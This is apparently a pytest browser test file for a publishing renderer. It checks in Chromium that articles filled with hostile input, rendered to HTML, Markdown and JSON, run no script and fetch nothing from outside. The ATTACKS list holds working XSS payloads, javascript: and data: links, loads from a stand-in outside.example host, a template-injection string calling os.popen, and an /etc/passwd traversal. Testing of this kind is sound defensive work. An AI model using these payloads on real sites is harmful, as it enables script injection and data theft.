"""Hostile words in a real Chromium, in every format: no wall leans on another, so each is taken away in turn."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from interleaf.schema import Article
from templates.press import formats, render
from tests.templates import sample
from tests.templates.sample import Studio

pytestmark = pytest.mark.browser

OUTSIDE = "https://outside.example"
# Ways in which browsers were made to run a script or to fetch something, each with a mark of its own.
ATTACKS = (
    "<script>ran(1)</script>",
    "</title></style></textarea></noscript><script src=https://outside.example/2></script>",
    "<img src=https://outside.example/3 onerror=ran(3)>",
    '"autofocus onfocus="ran(4)" x="',
    "' onpointerenter='ran(5)' style='background:url(https://outside.example/5)'",
    "<svg><animate onbegin=ran(6) attributeName=x dur=1s></svg>",
    "<svg><script href=https://outside.example/7 /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=ran(8)>'>",
    "<iframe srcdoc='<script>parent.ran(9)</script>'></iframe>",
    "<object data=https://outside.example/10></object><embed src=https://outside.example/10>",
    "<link rel=stylesheet href=https://outside.example/11><style>@import 'https://outside.example/11'</style>",
    "<meta http-equiv=refresh content='0;url=https://outside.example/12'>",
    "<base href=https://outside.example/13/><form action=//outside.example/13><button>x</button></form>",
    "[a](javascript:ran(14)) [b](JaVaScRiPt:ran(14)) [c](java&#10;script:ran(14)) [d](<java\tscript:ran(14)>)",
    "[a](vbscript:ran(15)) [b](data:text/html;base64,PHNjcmlwdD5yYW4oMTUpPC9zY3JpcHQ+) [c](//outside.example/15)",
    "![p](https://outside.example/16) ![q](//outside.example/16 'x') ![r](data:image/svg+xml,<svg/onload=ran(16)>)",
    "![s][17] [t][17]\n\n[17]: https://outside.example/17 'onload=ran(17)'",
    "<a href='&#x6A;avascript:ran(18)'>x</a> <a href=' javascript:ran(18)'>x</a>",
    "](https://outside.example/19) ![](https://outside.example/19",
    "`<script>ran(20)</script>` ```\n<script>ran(20)</script>\n```",
    "<video poster=https://outside.example/21><source src=https://outside.example/21 onerror=ran(21)></video>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} {% import 'os' as os %} ${ran(22)} <%= ran(22) %>",
    "https://outside.example/23 www.outside.example/23 <https://outside.example/23>",
    "a | b | <img src=https://outside.example/24> |\n|---|---|\n| <script>ran(24)</script> |",
    "../../../etc/passwd\\..\\..\\x.html?#<script>ran(25)</script>",
    "&lt;script&gt;ran(26)&lt;/script&gt; &#60;script&#62;ran(26)&#60;/script&#62;",
)


@dataclass
class Seen:
    """What a page did."""

    ran: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)


@contextmanager
def shown(chromium: Any, page_html: str) -> Iterator[tuple[Any, Seen]]:
    """The page at an address of its own; every request is noted and answered with nothing. `ran` notes each call."""
    context = chromium.new_context()
    seen = Seen()

    def answer(route: Any) -> None:
        if route.request.url == "https://page.example/":
            route.fulfill(status=200, content_type="text/html; charset=utf-8", body=page_html)
        else:
            seen.asked.append(route.request.url)
            route.fulfill(status=200, content_type="text/javascript", body="ran('from outside')")

    try:
        page = context.new_page()
        page.expose_function("ran", lambda mark: seen.ran.append(str(mark)))
        page.route("**", answer)
        page.on("dialog", lambda dialog: (seen.ran.append(dialog.message), dialog.dismiss()))
        page.goto("https://page.example/")
        # What waits for a person: a pointer over everything, a focus on everything.
        page.evaluate("""async () => {
          for (const e of document.querySelectorAll("*")) {
            e.dispatchEvent(new Event("pointerenter")); e.dispatchEvent(new Event("mouseover")); e.focus?.();
          }
          await new Promise(done => setTimeout(done, 200));
        }""")
        yield page, seen
    finally:
        context.close()


@pytest.fixture
def article(studio: Studio, monkeypatch: pytest.MonkeyPatch) -> Article:
    """Every attack in every field of every block: title, text, captions, alt texts, credits, licences, names."""
    monkeypatch.setattr(sample, "HOSTILE", ATTACKS)
    return sample.hostile(studio)


def without_policy(page_html: str) -> str:
    """The same page with the wall of the browser taken away."""
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page_html)
    assert bare != page_html
    return bare


def test_the_attacks_work_where_nothing_is_done(chromium: Any) -> None:
    with shown(chromium, f"<!doctype html><title>x</title><body>{''.join(ATTACKS[:1] + ATTACKS[2:4])}") as (_, seen):
        assert {"1", "3"} <= set(seen.ran)
        assert any(url.startswith(OUTSIDE) for url in seen.asked)


@pytest.mark.parametrize("policy", [True, False], ids=["as it is", "without its policy"])
def test_the_page_runs_nothing_and_asks_for_nothing(
    chromium: Any, studio: Studio, article: Article, policy: bool
) -> None:
    page_html = render(article, studio.shelf, "html").decode()
    with shown(chromium, page_html if policy else without_policy(page_html)) as (page, seen):
        assert (seen.ran, seen.asked) == ([], [])
        assert page.url == "https://page.example/"
        links = page.evaluate("[...document.querySelectorAll('[href]')].map(e => e.getAttribute('href'))")
        assert all(re.match(r"#|https?://|data:,$", link) for link in links), links
        images = page.evaluate("[...document.images].map(i => [i.getAttribute('src'), i.getAttribute('srcset')])")
        assert len(images) == len(ATTACKS)
        assert all(src.startswith("data:image/webp") for src, _ in images)
        assert "7 * 7" not in page.title()
        # And all of it is there to be read.
        text = " ".join(page.inner_text("main").split())
        for attack in ATTACKS:
            assert " ".join(attack.split()) in text


@pytest.mark.parametrize("html_in_markdown", [False, True], ids=["html is text", "html is html"])
def test_the_bundle_runs_nothing_in_a_reader_that_lets_html_through(
    chromium: Any, studio: Studio, article: Article, html_in_markdown: bool
) -> None:
    bundle = zipfile.ZipFile(io.BytesIO(render(article, studio.shelf, "md")))
    reader = MarkdownIt("commonmark", {"html": html_in_markdown}).enable(["strikethrough", "table"])
    body = reader.render(bundle.read("article.md").decode())
    with shown(chromium, f"<!doctype html><meta charset=utf-8><title>x</title><body>{body}") as (page, seen):
        assert seen.ran == []
        pictures = {f"https://page.example/{name}" for name in bundle.namelist() if name != "article.md"}
        assert set(seen.asked) == pictures
        assert page.url == "https://page.example/"
        links = page.evaluate("[...document.links].map(a => a.href)")
        assert all(re.match(r"https?://", link) for link in links), links


class Fetched(HTMLParser):
    """The addresses that a reader of a page fetches by itself."""

    def __init__(self, page_html: str) -> None:
        super().__init__()
        self.addresses: list[str] = []
        self.feed(page_html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name == "srcset":
                self.addresses += [part.split()[0] for part in (value or "").split(", ")]
            elif name in ("src", "poster", "data", "background", "action", "xlink:href") or (tag, name) == (
                "link",
                "href",
            ):
                self.addresses.append(value or "")


def texts_of(data: bytes) -> list[str]:
    """What a format has to read, as HTML: the page itself, or the texts in its archive, Markdown rendered."""
    if not data.startswith(b"PK"):
        return [data.decode()]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._/-]*", name)
            assert ".." not in name
        read = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith((".md", "ml"))}
    return [MarkdownIt("commonmark").render(text) if name.endswith(".md") else text for name, text in read.items()]


def test_no_format_names_a_picture_that_lies_outside(studio: Studio, article: Article) -> None:
    for name in formats():
        addresses = [one for text in texts_of(render(article, studio.shelf, name)) for one in Fetched(text).addresses]
        assert len(addresses) >= len(ATTACKS)
        assert all(re.match(r"data:image/|data:,$|[a-z0-9]+/[a-z0-9.-]+$", one) for one in addresses), name


def test_an_article_as_data_keeps_words_as_words(article: Article) -> None:
    """JSON is answered as JSON, and nosniff: what stands in it is text, and reads back the same."""
    text = article.model_dump_json()
    assert Article.model_validate_json(text) == article
    headings = {block.text for block in article.blocks if block.type == "heading"}
    assert {" ".join(attack.split()) for attack in ATTACKS} == headings
